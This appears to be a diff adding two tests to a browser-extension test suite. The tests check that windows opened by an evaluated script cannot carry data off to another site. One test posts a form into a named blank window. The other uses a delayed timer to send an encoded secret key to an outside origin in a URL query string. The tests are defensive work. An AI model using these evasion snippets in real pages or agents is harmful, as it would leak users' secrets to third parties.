@@ -171,6 +171,22 @@ describe('windows an eval’s script opens, through the extension', () => {
     }
   });
 
+  it('a form the eval posts into a blank window it opened and named: held, and named as a POST', async () => {
+    const named = blankForm(`${readable.origin}/form-named`, 'namedForm').replace(`'_blank'`, `'handoff'`);
+    await run(`window.open('', 'handoff'); ${named}; 0`);
+    // The opener's session says this form's method (Page.frameRequestedNavigation); a target=_blank one's, nothing.
+    expect(await nextHeld()).toEqual(['POST R/form-named (navigation)']);
+    expect(await reachedReadable()).toEqual([]);
+  });
+
+  it('a blank window the eval opened, sent to a readable site by a timer seconds later: nothing reaches it', async () => {
+    await run(`{ const w = window.open(''); setTimeout(() => { w.location = '${readable.origin}/assigned?key=' +
+      encodeURIComponent(${KEY}); window.assigned = true; }, 3000); } 0`);
+    await page.until('assigned');
+    expect(await nextHeld()).toEqual(['R/assigned?key=[redacted 34 chars] (navigation, method not known)']);
+    expect(await reachedReadable()).toEqual([]);
+  });
+
   it('a window the eval’s body opens into a refused site: nothing reaches it, every time', async () => {
     for (let round = 0; round < 5; round++) {
       await run(`${openWindow(`${refused.origin}/open-body`, 'opened')}; 0`);
